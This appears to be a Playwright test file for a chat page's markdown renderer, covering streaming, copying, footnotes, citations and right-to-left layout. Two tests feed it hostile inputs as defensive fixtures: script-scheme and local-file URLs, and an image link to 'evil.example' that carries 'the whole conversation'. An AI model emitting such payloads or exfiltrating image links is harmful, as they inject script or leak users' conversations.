"""Markdown as elements, in a real browser: however the text was cut, whatever it contains."""

import re
from collections.abc import Callable

import pytest
from playwright.sync_api import expect

from tests.page.conftest import Chat
from tests.page.made_up import DONE, START, answer_with, told

ANSWER = """## Title with *emphasis*

A paragraph with **bold**, `code`, ~~gone~~ and [a link](https://example.org "there").
It goes on in a second line, with https://example.org/bare and a formula \\( a*b \\).

1. one
   - nested **bold
   over two lines**

     and a paragraph
2. two

   ```python
   def f(x):

       return "``` not the end"
   ```

| a | b |
| --- | --: |
| 1 | `x | y` |
| **2** |

> quoted
continued lazily

- [x] done
- [ ] not yet

$$
x = y
$$

Setext
------

[ref] and ![picture](https://example.org/x.png), a note[^1], another[^late], none[^2]

- [x] شكرا
- دوم a

| נושא | b |
| -- | - |

[ref]: https://example.org/ref

[^1]: The *note*.

    It goes on.
[^late]: Late.
"""

FUZZ = """async ([answer, seed]) => {
  const { Prose } = await import("/static/js/markdown/prose.js");
  const random = () => (seed = (seed * 16807) % 2147483647) / 2147483647;
  const draw = (text, cuts) => {
    const element = document.createElement("div");
    const prose = new Prose(element);
    let at = 0;
    for (const cut of [...cuts, text.length]) {
      prose.push(text.slice(at, cut));
      prose.draw();
      at = cut;
    }
    prose.end();
    element.normalize();
    return element.innerHTML;
  };
  const pieces = answer.split(/(\\s+|\\b|(?=[*_`|~[\\]()#>-]))/);
  const texts = [answer, answer.replaceAll("\\n", " ").repeat(3), `${answer}\\n\\n`.repeat(3)];
  for (let n = 0; n < 150; n += 1) {
    const length = 5 + Math.floor(random() * 60);
    texts.push(Array.from({ length }, () => pieces[Math.floor(random() * pieces.length)]).join(""));
  }
  for (const text of texts) {
    const whole = draw(text, []);
    const ways = [Array.from({ length: text.length }, (_, n) => n)];
    for (let n = 0; n < 3; n += 1) {
      const cuts = [];
      for (let at = 0; (at += 1 + Math.floor(random() * 15)) < text.length; ) cuts.push(at);
      ways.push(cuts);
    }
    for (const cuts of ways) {
      const got = draw(text, cuts);
      if (got !== whole) return { text, whole, got };
    }
  }
  return null;
}"""

SETTLED = """async (answer) => {
  const { Prose } = await import("/static/js/markdown/prose.js");
  const element = document.createElement("div");
  const prose = new Prose(element);
  const settled = [];
  const drawn = () => [...element.querySelectorAll(".prose__section > *")];
  for (const char of answer) {
    prose.push(char);
    prose.draw();
    const blocks = drawn();
    for (const block of blocks.slice(settled.length, -1)) settled.push([block, block.outerHTML]);
    for (const [n, [node, html]] of settled.entries()) {
      if (blocks[n] !== node) return `block ${n} was replaced`;
      if (node.outerHTML !== html) return `block ${n} was rewritten: ${html} became ${node.outerHTML}`;
    }
  }
  prose.end();
  const blocks = drawn();
  return settled.length && settled.every(([node], n) => blocks[n] === node) ? null : "replaced at the end";
}"""


@pytest.mark.parametrize("seed", [1, 2026])
def test_the_page_does_not_depend_on_where_the_text_was_cut(chat: Chat, seed: int) -> None:
    assert chat.page.evaluate(FUZZ, [ANSWER, seed]) is None


def test_what_is_finished_is_never_touched_again(chat: Chat) -> None:
    assert chat.page.evaluate(SETTLED, ANSWER) is None


SECTIONS = """async (answer) => {
  const { Prose } = await import("/static/js/markdown/prose.js");
  const element = document.createElement("div");
  element.className = "prose";
  document.getElementById("log").append(element);
  const prose = new Prose(element);
  prose.push(answer);
  prose.end();
  const tops = () => [...element.querySelectorAll(".prose__section > *")].map((each) => each.getBoundingClientRect().top);
  const [first, ...others] = element.children;
  const sizes = [first, ...others].map((section) => section.childElementCount);
  const before = tops();
  for (const section of others) {
    first.append(...section.childNodes);
    section.remove();
  }
  return { sizes, before, after: tops() };
}"""


def test_sections_of_a_long_answer_cannot_be_seen(chat: Chat) -> None:
    found = chat.page.evaluate(SECTIONS, f"{ANSWER}\n\nWords.\n\n# A head\n\n" * 6)
    assert len(found["sizes"]) > 2
    assert found["before"] == found["after"]


COPIED = """() => {
  const log = document.querySelector("#log");
  const data = new DataTransfer();
  log.dispatchEvent(new ClipboardEvent("copy", { clipboardData: data, bubbles: true, cancelable: true }));
  return [data.getData("text/plain"), data.getData("text/html")];
}"""
DRAWN = """async (text) => {
  const { Prose } = await import("/static/js/markdown/prose.js");
  const element = document.createElement("div");
  const prose = new Prose(element);
  prose.push(text);
  prose.draw();
  prose.end();
  element.normalize();
  return element.innerHTML;
}"""


def test_what_is_selected_is_copied_as_markdown_that_is_drawn_the_same(chat: Chat) -> None:
    marked = ANSWER + "\n1. 2 \\* 3\n\n- a\n\n* b_c, _d\\_ \\<b> and ``x ` y``\\\nbroken\n\n~~~\n```\n~~~\n"
    told(chat, marked)
    chat.page.evaluate("getSelection().selectAllChildren(document.querySelector('.prose'))")
    copied, html = chat.page.evaluate(COPIED)
    assert chat.page.evaluate(DRAWN, copied) == chat.page.evaluate(DRAWN, marked)
    assert "Copy" not in html
    assert not re.search("style|class|button", html)
    part = "getSelection().setBaseAndExtent(...['one', 'two'].flatMap((word) => {"
    part += "const p = [...document.querySelectorAll('ol p')].find((each) => each.textContent === word);"
    part += "return [p.firstChild, word === 'one' ? 1 : 3]; }))"
    chat.page.evaluate(part)
    copied, _ = chat.page.evaluate(COPIED)
    assert copied.startswith("1. ne\n\n   - nested **bold")
    assert copied.endswith("2. two")
    chat.page.evaluate("getSelection().selectAllChildren(document.querySelector('.prose blockquote p'))")
    copied, _ = chat.page.evaluate(COPIED)
    assert copied == ""  # words of one paragraph are the browser's matter
    chat.page.evaluate("getSelection().selectAllChildren(document.querySelector('#log'))")
    copied, _ = chat.page.evaluate(COPIED)
    assert copied.startswith("Tell me.\n\n# Title")


def test_an_answer_has_structure(chat: Chat) -> None:
    told(chat, ANSWER)
    prose = chat.page.locator(".prose")
    expect(prose.get_by_role("heading", level=3, name="Title with emphasis")).to_be_visible()
    expect(prose.get_by_role("link", name="a link")).to_have_attribute("href", "https://example.org")
    expect(prose.get_by_role("columnheader")).to_have_text(["a", "b", "נושא", "b"])
    expect(prose.get_by_role("checkbox", checked=True)).to_have_count(2)
    expect(prose.locator(".code__language")).to_have_text("python")
    expect(prose.get_by_role("link", name="ref")).to_have_attribute("href", "https://example.org/ref")


def test_links_open_outside_and_tell_nobody(chat: Chat) -> None:
    told(chat, "[a](https://example.org) [b](mailto:a@example.org) [c](#top)")
    links = chat.page.locator(".prose a")
    for link in (links.nth(0), links.nth(1)):
        expect(link).to_have_attribute("rel", "noopener noreferrer")
        expect(link).to_have_attribute("target", "_blank")
    expect(links).to_have_count(3)


def test_other_addresses_are_not_links(chat: Chat) -> None:
    addresses = [
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        "java&#x0A;script:alert(1)",
        "&#1;javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:x",
        "file:///etc/passwd",
        "blob:https://example.org/x",
        "//example.org/x",
        "api/session",
    ]
    told(chat, "\n\n".join(f"[words](<{address}>) ![picture](<{address}>)" for address in addresses))
    expect(chat.page.locator(".prose .refused")).to_have_text(["words", "picture"] * len(addresses))
    expect(chat.page.locator(".prose a")).to_have_count(0)


def test_pictures_are_never_loaded(chat: Chat) -> None:
    asked: list[str] = []
    chat.page.on("request", lambda request: asked.append(request.url))
    address = "https://evil.example/?q=the+whole+conversation"
    told(chat, f"![a secret]({address}) ![]({address}) <img src=https://evil.example/>")
    chips = chat.page.locator(".prose a.image")
    expect(chips).to_have_text(["a secret", address])
    # where it would lead is seen before it is followed, and once
    assert chips.evaluate_all(
        "(chips) => chips.map((chip) => getComputedStyle(chip, '::after').content)"
    ) == [
        f'"{address}"',
        "none",
    ]
    expect(chat.page.locator(".prose img")).to_have_count(0)
    assert not [url for url in asked if "evil.example" in url]


ON_CLIPBOARD = """async () => {
  const [item] = await navigator.clipboard.read();
  return Promise.all([...item.types].sort().map(async (type) => [type, await (await item.getType(type)).text()]));
}"""


def test_code_and_tables_can_be_copied_and_code_wrapped(
    open_chat: Callable[..., Chat], page_url: str
) -> None:
    chat = open_chat(page_url, permissions=["clipboard-read", "clipboard-write"])
    table = "| a | b |\n| --- | ---: |\n| **1** | `x` |"
    answer = f"```\n{'x' * 2000}\n```\n\n{table}\n\n```py\nx = 1\n\nprint(x)\n```\n"
    told(chat, answer)
    wrap = chat.page.get_by_role("button", name="Wrap").first
    long = chat.page.locator(".code pre").first
    assert long.evaluate("(pre) => pre.scrollWidth > pre.clientWidth")
    wrap.click()
    expect(wrap).to_have_attribute("aria-pressed", "true")
    assert long.evaluate("(pre) => pre.scrollWidth === pre.clientWidth")
    chat.stop_time()  # a button says only for two seconds that it has copied
    chat.page.get_by_role("button", name="Copy", exact=True).last.click()
    expect(chat.page.get_by_role("button", name="Copied")).to_be_visible()
    assert chat.page.evaluate("navigator.clipboard.readText()") == "x = 1\n\nprint(x)"
    chat.page.get_by_role("button", name="Copy table").click()
    expect(chat.page.get_by_role("button", name="Copied")).to_have_count(2)
    (_, rich), (_, plain) = chat.page.evaluate(ON_CLIPBOARD)
    assert plain == table
    # what a spreadsheet takes: cells, and nothing of the page's
    assert re.sub(r"<[^>]*?(\w+)[^>]*>", r"<\1>", rich).count("<td>") == 4
    assert "class" not in rich
    chat.page.get_by_role("button", name="Copy answer").click()
    expect(chat.page.get_by_role("button", name="Copied")).to_have_count(3)
    (_, rich), (_, plain) = chat.page.evaluate(ON_CLIPBOARD)
    assert plain == answer
    assert "<strong>1</strong>" in rich  # for letters and documents
    chat.page.evaluate("delete Navigator.prototype.clipboard")  # as on a page that is not served securely
    chat.page.get_by_role("button", name="Copy question").click()
    expect(chat.page.get_by_role("button", name="Copied")).to_have_count(4)
    chat.field.press("Control+v")
    expect(chat.field).to_have_value("Tell me.")


def test_a_footnote_is_reached_from_its_number_and_leads_back(chat: Chat) -> None:
    told(chat, "Rivers[^1] flow[^2].\n\n[^1]: Most of them.\n")
    expect(chat.page.locator(".prose p").first).to_have_text("Rivers1 flow[^2].")
    chat.page.get_by_role("button", name="Footnote 1", exact=True).click()
    expect(chat.page.get_by_role("note")).to_be_focused()
    expect(chat.page.get_by_role("note")).to_contain_text("Most of them.")
    chat.page.get_by_role("button", name="Back to footnote 1").click()
    expect(chat.page.get_by_role("button", name="Footnote 1", exact=True)).to_be_focused()


def test_a_list_of_contents_leads_to_its_headings_and_not_out_of_the_conversation(chat: Chat) -> None:
    contents = (
        "- [*Set* up](#1-set-up--run)\n- [Über](#%C3%BCber)\n- [None](#none)\n- [Odd](#%ff)\n- [Top](#)\n\n"
    )
    far = "On.\n\n" * 60
    told(chat, f"{contents}{far}## 1. Set up & `run`\n\n## Über\n\n## …\n\n{far}")
    address = chat.page.url
    for words in ("None", "Odd", "Top"):
        chat.page.get_by_role("link", name=words).click()
    chat.page.locator(".prose a em").click()
    heading = chat.page.get_by_role("heading", name="1. Set up & run")
    expect(heading).to_be_focused()
    expect(heading).to_be_in_viewport()
    chat.page.get_by_role("link", name="Über").press("Enter")
    expect(chat.page.get_by_role("heading", name="Über")).to_be_focused()
    assert chat.page.url == address
    expect(chat.page.locator(".prompt__text")).to_have_text("Tell me.")


def test_lists_and_tables_read_as_their_words_do(chat: Chat) -> None:
    told(
        chat,
        "1. واحد\n2. two\n\n- [x] تم\n\n| الاسم | b |\n|---|--:|\n| 1 | 2 |\n\n> اقتباس\n\n1. one\n2. اثنان\n",
        question="أخبرني",
    )
    for name in ("ol >> nth=0", "ul", ".table", "blockquote"):
        expect(chat.page.locator(".prose").locator(name)).to_have_attribute("dir", "rtl")
    expect(chat.page.locator(".prose ol").last).to_have_attribute("dir", "ltr")
    item, box = chat.page.locator(".task").bounding_box(), chat.page.locator(".task input").bounding_box()
    assert item
    assert box
    assert box["x"] > item["x"] + item["width"] - box["width"]  # where the reader begins
    number = chat.page.locator("td[data-align=right]")
    assert number.evaluate("(cell) => getComputedStyle(cell).textAlign") == "right"
    question = chat.page.locator(".prompt__text").bounding_box()
    actions = chat.page.locator(".actions--prompt").bounding_box()
    assert question
    assert actions
    assert question["x"] + question["width"] == actions["x"] + actions["width"]  # on the reader's side


def test_on_paper_nothing_is_cut_off_and_all_is_dark_on_white(
    open_chat: Callable[..., Chat], page_url: str
) -> None:
    chat = open_chat(page_url, color_scheme="dark")
    told(chat, f"Rivers[^1].\n\n```\n{'x ' * 400}\n```\n\n[^1]: Most of them.\n")
    chat.page.emulate_media(media="print", color_scheme="dark")
    pre = chat.page.locator(".code pre")
    assert pre.evaluate("(pre) => pre.scrollWidth <= pre.clientWidth")
    expect(chat.page.locator(".noteref")).to_be_visible()
    expect(chat.page.locator(".footnote__back")).to_be_visible()
    for button in (".code__copy", ".code__wrap"):
        expect(chat.page.locator(button)).to_be_hidden()
    expect(chat.page.locator("html")).to_have_css("color-scheme", "light")
    lightness = chat.page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert float(re.findall(r"[\d.]+", lightness)[0]) > 0.9  # oklch


def test_a_citation_is_a_number_that_shows_what_it_cites(chat: Chat) -> None:
    citation = {
        "type": "web_search_result_location",
        "url": "https://example.org/rivers",
        "title": "On rivers",
        "cited_text": "They flow.",
    }
    told(chat, "Rivers flow.", {"type": "citation", "index": 0, "citation": citation})
    number = chat.page.get_by_role("link", name="Source 1: On rivers")
    expect(number).to_have_attribute("href", "https://example.org/rivers")
    expect(chat.page.get_by_text("They flow.")).to_be_hidden()
    number.focus()
    expect(chat.page.get_by_text("They flow.")).to_be_visible()


def test_text_that_goes_on_after_a_break_says_where(chat: Chat) -> None:
    answer_with(
        chat.page,
        START,
        {"type": "block_start", "index": 0, "kind": "text", "at_ms": 1},
        {"type": "text", "index": 0, "text": "Rivers **fl"},
        {"type": "retry", "reason": "reset", "attempt": 1, "delay_ms": 1, "discard": []},
        {"type": "seam", "index": 0, "offset": 11, "trimmed": 0, "attempt": 1, "mode": "ask"},
        {"type": "text", "index": 0, "text": "ow**."},
        {"type": "block_stop", "index": 0, "at_ms": 2},
        DONE,
    )
    chat.ask("Tell me.")
    chat.finished()
    expect(chat.page.locator(".prose strong")).to_have_text("flow")
    expect(chat.page.locator(".prose strong .seam")).to_have_count(1)
    expect(chat.page.locator(".note")).to_have_count(0)


def test_an_answer_at_its_length_limit_can_go_on(chat: Chat) -> None:
    answer_with(
        chat.page,
        START,
        {"type": "block_start", "index": 0, "kind": "text", "at_ms": 1},
        {"type": "text", "index": 0, "text": "Half"},
        {**DONE, "stop_reason": "max_tokens"},
    )
    chat.ask("Tell me.")
    chat.finished()
    expect(chat.page.locator(".note")).to_have_text("Stopped at the length limit.")
    answer_with(chat.page, START, DONE)
    chat.page.get_by_role("button", name="Continue").click()
    expect(chat.page.locator(".prompt__text")).to_have_text(
        ["Tell me.", "Continue exactly where you stopped."]
    )
    chat.finished()
